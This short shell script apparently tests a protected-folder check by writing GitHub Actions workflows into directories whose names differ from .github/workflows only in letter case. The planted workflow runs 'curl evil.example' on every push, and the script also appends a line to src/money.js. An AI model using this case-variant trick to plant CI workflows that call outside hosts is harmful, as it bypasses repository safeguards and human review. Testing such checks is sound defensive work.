# Writes workflows under names that differ from the protected folder only in letter case.
mkdir -p .GitHub/Workflows .github/WORKFLOWS
printf 'on: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil.example\n' > .GitHub/Workflows/evil.yml
cp .GitHub/Workflows/evil.yml .github/WORKFLOWS/evil.yml
echo "// $(date +%s)" >> src/money.js
